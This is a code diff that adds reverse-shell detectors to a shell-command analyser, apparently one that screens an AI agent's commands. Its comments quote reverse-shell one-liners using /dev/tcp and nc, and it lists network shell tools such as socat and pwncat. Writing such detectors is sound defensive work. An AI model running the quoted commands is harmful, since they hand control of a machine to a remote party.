@@ -85,3 +85,68 @@ export const servedShellUnwrapper: Unwrapper = {
     reverseShell(e, v.words[0] as Word, `${server.wrapper} serving ${v.name}`);
   },
 };
+
+/** `/dev/tcp/…` spelled anywhere on the line: a run-time redirect target may hold it (`d=/dev/tcp/h/p; bash >& $d`). */
+const NET_ANYWHERE = /\/dev\/(?:tcp|udp)\//;
+/** Programs that carry a stream over the network. */
+const NET_TOOLS: ReadonlySet<string> = new Set(["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "openssl", "cryptcat", "sbd", "pwncat", "pwncat-cs"]);
+
+/**
+ * A shell reading its program from stdin wired to the network by its redirects (`bash -i >&
+ * /dev/tcp/$h/4444 0>&1`, `sh < /dev/udp/h/53`, a target only known at run time on a line that
+ * names /dev/tcp), or piped into a network tool (`sh -i < /tmp/f 2>&1 | nc h 4444 > /tmp/f`); and
+ * `exec` wiring this shell's own input or output to a socket (`exec </dev/tcp/h/p`).
+ */
+export const netRedirectUnwrapper: Unwrapper = {
+  name: "net-redirect",
+  commands: [...INTERPRETERS, "exec"],
+  also: (v, e) => {
+    const lineNamesNet = NET_ANYWHERE.test(v.facts.source);
+    if (v.name === "exec") {
+      if (v.args.length > 1 || !lineNamesNet) return;
+      const r = v.redirects.find((x) => (x.fd === null || x.fd <= 2) && x.target !== null && netTarget(x.target, true));
+      if (r !== undefined) reverseShell(e, r.target as Word, `exec ${r.op} ${(r.target as Word).value} (this shell's own ${r.op.includes("<") ? "input" : "output"})`);
+      return;
+    }
+    if (!readsProgramFromStdin(v)) return;
+    const r = lineNamesNet ? v.redirects.find((x) => x.target !== null && netTarget(x.target, true)) : undefined;
+    if (r !== undefined) return reverseShell(e, r.target as Word, `${v.name} with ${r.op} ${(r.target as Word).value}`);
+    const later = v.facts.commands.find((c) => c.pipeline === v.sc.pipeline && c.stage > v.sc.stage && NET_TOOLS.has(commandBase(c.argv[0]?.value ?? "")));
+    if (later !== undefined) reverseShell(e, v.words[0] as Word, `${v.name} piped into ${later.argv[0]?.value ?? "a network tool"} (its session sent to the network)`);
+  },
+};
+
+/** A redirect target that is a socket, or may be one (`$d` on a line naming /dev/tcp). */
+function netTarget(w: Word, lineNamesNet: boolean): boolean {
+  // A target that starts with a run-time part (`$d`, `$(…)`) could be /dev/tcp/… itself.
+  return NET_DEVICE.test(w.value) || (lineNamesNet && w.dynamic !== null && (w.dynamic[0]?.[0] ?? 1) === 0);
+}
+const commandBase = (v: string): string => v.slice(v.lastIndexOf("/") + 1);
+
+/** `telnetd -l /bin/sh` (busybox's too): a shell served to whoever connects. */
+export const telnetdUnwrapper: Unwrapper = {
+  name: "telnetd-shell",
+  commands: ["telnetd", "utelnetd", "in.telnetd"],
+  unwrap: (v, e) => {
+    for (let k = 1; k < v.args.length; k++) {
+      const a = v.args[k] as string;
+      const login = a === "-l" ? v.args[k + 1] : a.startsWith("-l") ? a.slice(2) : undefined;
+      if (login !== undefined && (INTERPRETERS.has(commandBase(login)) || commandBase(login) === "login" || login.includes("$"))) return reverseShell(e, v.words[k] as Word, `${v.name} -l ${login}`);
+    }
+  },
+};
+
+/** Terminal sharing (`tmate`, `upterm host`): this shell's session handed to whoever has the link. */
+export const sharedTerminalUnwrapper: Unwrapper = {
+  name: "shared-terminal",
+  commands: ["tmate", "upterm"],
+  unwrap: (v, e) => {
+    if (v.args.some((a) => /^(?:-V|--version|-h|--help)$/.test(a))) return;
+    const sub = v.args.slice(1).find((a) => !a.startsWith("-"));
+    if (v.name === "upterm" && sub !== "host") return;
+    // tmate's own commands to a running session (`tmate -S sock wait tmate-ready`, `display -p`) share nothing new.
+    if (v.name === "tmate" && sub !== undefined && !/^(?:new|new-session)$/.test(sub) && v.args.includes("-S")) return;
+    const r = e.at(v.words[0] as Word);
+    e.out.findings.push({ id: "shell/reverse-shell", message: `${v.name} shares this terminal's shell over the network: whoever has its link runs commands here. Start it yourself, outside the agent, when you mean to pair.`, start: r[0], end: r[1] });
+  },
+};
